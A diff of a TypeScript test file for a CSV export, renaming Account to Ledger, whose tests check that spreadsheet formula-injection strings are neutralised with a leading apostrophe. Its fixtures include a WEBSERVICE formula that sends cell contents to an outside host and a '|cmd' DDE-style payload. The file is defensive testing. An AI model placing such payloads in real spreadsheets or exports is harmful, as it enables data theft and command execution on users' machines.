@@ -2,11 +2,11 @@ import { cp, mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { expect, test } from 'vitest';
-import { loadAccount } from '../../src/collections/load-account.ts';
+import { loadLedger } from '../../src/collections/load-ledger.ts';
 import { loadImportRegistry } from '../../src/importer/import-registry.ts';
 import { dataTables } from '../../src/outputs/data-tables.ts';
 import { renderCsv } from '../../src/outputs/render-csv.ts';
-import type { Account } from '../../src/records/model.ts';
+import type { Ledger } from '../../src/records/model.ts';
 import { csvReaders } from '../csv/csv-readers.ts';
 import { importInto } from '../importer/import-case.ts';
 import { readRecords } from './read-records.ts';
@@ -16,10 +16,10 @@ const original = join(import.meta.dirname, 'formulas.txt');
 /** A small registry that knows the units of the original. */
 const registry = resolve('tests/site/content/registry');
 
-const account = await importOriginal();
+const ledger = await importOriginal();
 
 test('texts are imported as printed', () => {
-  expect(account.rows.map(({ text }) => text)).toEqual([
+  expect(ledger.rows.map(({ text }) => text)).toEqual([
     '=WEBSERVICE("http://a.b/?"&A1)',
     '+1+1|cmd,改造“老码头”',
     '@SUM(1) 建设"渔港"',
@@ -27,13 +27,13 @@ test('texts are imported as printed', () => {
     '＝1+1',
     '%0A=1+1',
   ]);
-  expect(account.rows[1]?.unitsAsPrinted).toEqual({ 责任单位: '市住建局\n市水利局' });
+  expect(ledger.rows[1]?.unitsAsPrinted).toEqual({ 责任单位: '市住建局\n市水利局' });
 });
 
 for (const { name, read } of csvReaders) {
   test(`${name} sees one neutralised record for each row, and every table whole`, () => {
-    const tables = read(dataTables.map((table) => renderCsv(table, account)));
-    expect(tables).toEqual(dataTables.map((table) => readRecords(table, account)));
+    const tables = read(dataTables.map((table) => renderCsv(table, ledger)));
+    expect(tables).toEqual(dataTables.map((table) => readRecords(table, ledger)));
     const texts = [
       `'=WEBSERVICE("http://a.b/?"&A1)`,
       "'+1+1|cmd,改造“老码头”",
@@ -48,12 +48,12 @@ for (const { name, read } of csvReaders) {
   });
 }
 
-async function importOriginal(): Promise<Account> {
+async function importOriginal(): Promise<Ledger> {
   const root = await mkdtemp(join(tmpdir(), 'mingzhang-csv-'));
   try {
     await cp(registry, join(root, 'registry'), { recursive: true });
     await importInto(root, original, { by: await loadImportRegistry(root, root) });
-    return await loadAccount(root);
+    return await loadLedger(root);
   } finally {
     await rm(root, { recursive: true });
   }
